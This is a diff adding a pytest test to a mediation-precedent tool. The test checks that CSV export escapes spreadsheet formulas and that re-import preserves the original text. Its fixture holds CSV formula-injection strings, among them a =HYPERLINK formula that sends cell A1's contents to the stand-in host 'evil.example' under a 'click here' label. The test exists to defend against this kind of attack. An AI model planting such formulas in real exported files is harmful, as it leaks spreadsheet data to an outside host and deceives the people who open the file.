@@ -245,3 +245,43 @@ def test_fetch_index_cleans_up_after_killed_installs_and_a_full_disk(
     monkeypatch.undo()
     arch.install_index(str(out.path), digest, kb)
     assert _laws(kb) == before and not list(kb.glob(".index-new-*"))
+
+
+# ---- CSV export: no formulas for Excel or WPS -----------------------------------------------
+
+
+def test_exported_precedents_csv_has_no_formulas_and_imports_back_unchanged(
+    kb: Path, tmp_path: Path
+) -> None:
+    import csv
+    import io
+
+    from ingest.cases.precedents import PrecedentDraft
+
+    service = Service.load(kb, embedder=FakeEmbedder(), config=FAKE_CONFIG)
+    hostile = {
+        "facts": '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")钱某在楼道堆放杂物。',
+        "agreement": "+1+1 钱某三日内清理楼道杂物。",
+        "title": "-2+3 楼道堆物纠纷",
+        "process": "@SUM(A1:A9) 调解员上门劝说。",
+    }
+    service.record_precedent(
+        PrecedentDraft(dispute_type="邻里关系", articles=("民法典:288",), **hostile)
+    )
+    data = service.export_precedents("csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in data.decode("utf-8-sig")
+    # the committee's own re-import reads the text as it was recorded
+    other = tmp_path / "other"
+    shutil.copytree(kb, other)
+    again = Service.load(other, embedder=FakeEmbedder(), config=FAKE_CONFIG)
+    assert again.import_precedents("调解案例.csv", data).problems == []
+    (p,) = again.precedents()
+    assert (p.facts, p.agreement, p.title, p.process) == (
+        hostile["facts"],
+        hostile["agreement"],
+        hostile["title"],
+        hostile["process"],
+    )
